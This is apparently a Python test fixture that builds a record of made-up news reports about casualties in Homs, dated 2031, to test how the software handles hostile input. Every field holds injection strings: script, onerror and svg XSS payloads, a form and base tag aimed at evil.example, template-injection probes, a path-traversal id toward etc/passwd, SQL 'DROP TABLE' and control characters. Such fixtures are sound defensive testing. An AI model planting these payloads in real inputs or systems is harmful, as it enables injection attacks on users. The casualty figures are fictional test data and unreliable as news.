"""A record whose reports try to do something to whoever reads them: in every field, in many ways."""

from __future__ import annotations

import json
from pathlib import Path

from recount.config import Settings
from recount.model import DecisionKind
from recount.workspace import Workspace
from recount.workspace.deciding import Order

HIT = "window.__hit=1"
SCRIPT = f"<script>{HIT}</script>"
IMAGE = f'<img src=x onerror="{HIT}">'
SVG = f'<svg onload="{HIT}"><a xlink:href="javascript:{HIT}"><text>x</text></a></svg>'
BREAK_OUT = f"\"'><svg/onload={HIT}><!--"
FORM = (
    '<form action="https://evil.example/"><input name=q></form><base href="https://evil.example/"><iframe srcdoc="x">'
)
TEMPLATE = "H{{7*7}}H {%raw%} ${7*7} #{7*7} {{page.__class__}}"
TURNED = "\u202egnihton\u202c"
LONG = "A" * 4000
NUL = "a\x00b\x1b[2Jc\u2028d\ufeff"
HALF = "half \ud83d a character"

REPORTS: tuple[dict[str, str], ...] = (
    {
        "id": BREAK_OUT,
        "published": "2031-03-11",
        "outlet": f"Out{BREAK_OUT}{SCRIPT}",
        "title": f"{SCRIPT}{IMAGE}{SVG} {TEMPLATE} {TURNED}",
        "url": f"javascript:{HIT}//https://example.org/",
        "author": SCRIPT,
        "text": f"At least 14 people were killed in an airstrike on Homs on Monday, said {SCRIPT} the {IMAGE} activists"
        f" of the town. {SVG} Five people were injured in Homs {BREAK_OUT} on Monday, {TEMPLATE} medics said.\n\n"
        f"{FORM}\n\nThe army on Monday denied that it had attacked a hospital in Homs {SCRIPT}.",
    },
    {
        "id": f"../../etc/{TURNED}passwd?x=1#y",
        "published": "2031-03-12",
        "outlet": f"{TURNED} {NUL}",
        "title": f"{LONG} {NUL}",
        "url": f' data:text/html,{SCRIPT}',
        "text": f"{NUL} At least nine people were killed in shelling of Homs {TURNED} on Tuesday, {LONG} medics said.",
    },
    {
        "id": f"{TEMPLATE} é 🙂",
        "published": "2031-03-11",
        "outlet": LONG[:400],
        "title": "'; DROP TABLE claims; --",
        "url": f"https://example.org/\" onmouseover=\"{HIT}",
        "text": f"Airstrikes killed 15 people in Homs on Monday, the {BREAK_OUT} governor {FORM} said. Among them was"
        f" Nurse {IMAGE}, 30, a medic.",
    },
    {"id": "half", "outlet": SCRIPT, "title": HALF, "text": f"{HALF} Three people were killed."},
    {"id": "empty", "published": "never", "outlet": SCRIPT, "title": SCRIPT, "text": ""},
    {"id": SCRIPT, "published": SCRIPT, "outlet": SCRIPT, "title": "", "text": f"Three people were killed in {SVG}."},
)  # fmt: skip


def make_record(folder: Path) -> Path:
    """The record, with a failure, a decision and an edition of the same kind."""
    reports = folder / "hostile.jsonl"
    reports.write_text("".join(f"{json.dumps(report)}\n" for report in REPORTS), encoding="utf-8")
    record = folder / "hostile.db"
    with Workspace.open(record, create=True, settings=Settings()) as workspace:
        workspace.run(reports)
        claim = min(workspace.claims_now())
        workspace.decide(Order(kind=DecisionKind.ACCEPT, things=(claim,), by=SCRIPT, why=f"{IMAGE} {BREAK_OUT}"))
        workspace.create_edition(f"{SCRIPT} {BREAK_OUT}")
        workspace.decide(Order(kind=DecisionKind.REJECT, things=(claim,), by=BREAK_OUT, why=f"{SVG} {TEMPLATE}"))
    return record
